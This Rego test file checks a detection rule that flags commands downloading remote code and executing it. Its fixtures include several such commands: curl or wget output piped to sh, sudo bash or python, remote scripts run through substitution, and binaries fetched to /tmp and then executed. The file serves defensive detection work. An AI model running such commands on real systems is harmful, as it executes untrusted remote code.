package palisade.rules.download_piped_to_shell_test

import rego.v1

import data.palisade.lib.fixtures as fx
import data.palisade.rules.download_piped_to_shell as rule

test_curl_pipe_sh if {
	hits := rule.hits with input as fx.container_exec("/bin/sh", ["sh", "-c", "curl -fsSL https://get.example.sh | sh"])
	count(hits) == 1
}

test_wget_pipe_sudo_bash if {
	hits := rule.hits with input as fx.host_exec("/usr/bin/bash", ["bash", "-c", "wget -qO- http://203.0.113.7/x|sudo -E bash -s -- --quiet"])
	count(hits) == 1
}

test_curl_pipe_python if {
	hits := rule.hits with input as fx.host_exec("/usr/bin/bash", ["bash", "-c", "curl -s https://bootstrap.example/get.py | /usr/bin/python3 -"])
	count(hits) == 1
}

test_command_substitution if {
	hits := rule.hits with input as fx.host_exec("/usr/bin/bash", ["bash", "-c", `bash -c "$(curl -fsSL https://203.0.113.7/i.sh)"`])
	count(hits) == 1
}

test_process_substitution if {
	hits := rule.hits with input as fx.host_exec("/usr/bin/bash", ["bash", "-c", "source <(wget -qO- http://203.0.113.7/env)"])
	count(hits) == 1
}

test_download_to_file_is_not_matched if {
	hits := rule.hits with input as fx.host_exec("/usr/bin/bash", ["bash", "-c", "curl -fsSLo /tmp/pkg.tgz https://example.com/pkg.tgz && tar xzf /tmp/pkg.tgz"])
	count(hits) == 0
}

test_curl_piped_to_jq_is_not_matched if {
	hits := rule.hits with input as fx.host_exec("/usr/bin/bash", ["bash", "-c", "curl -s http://svc/status | jq .shards | grep -c ok"])
	count(hits) == 0
}

test_curl_process_itself_is_not_matched if {
	hits := rule.hits with input as fx.host_exec("/usr/bin/curl", ["curl", "-fsSL", "https://get.example.sh", "|", "sh"])
	count(hits) == 0
}

test_download_saved_then_run if {
	every script in [
		"curl -sLo /tmp/x https://203.0.113.7/x && chmod +x /tmp/x && /tmp/x",
		"wget -O /dev/shm/k http://203.0.113.7/k; chmod 755 /dev/shm/k",
		"curl https://203.0.113.7/i.sh > /tmp/i.sh; sh /tmp/i.sh",
		"cd /tmp && wget -q http://203.0.113.7/b -O b && ./b",
	] {
		count(rule.hits) == 1 with input as fx.host_exec("/bin/sh", ["sh", "-c", script])
	}
}

test_download_to_a_file_alone_is_not_matched if {
	count(rule.hits) == 0 with input as fx.host_exec("/bin/sh", ["sh", "-c", "curl -o /tmp/data.json https://api.example.com/x && jq . /tmp/data.json"])
	count(rule.hits) == 0 with input as fx.host_exec("/bin/sh", ["sh", "-c", "wget -O- https://example.com/x.tar.gz | tar xz; chmod 644 x"])
}
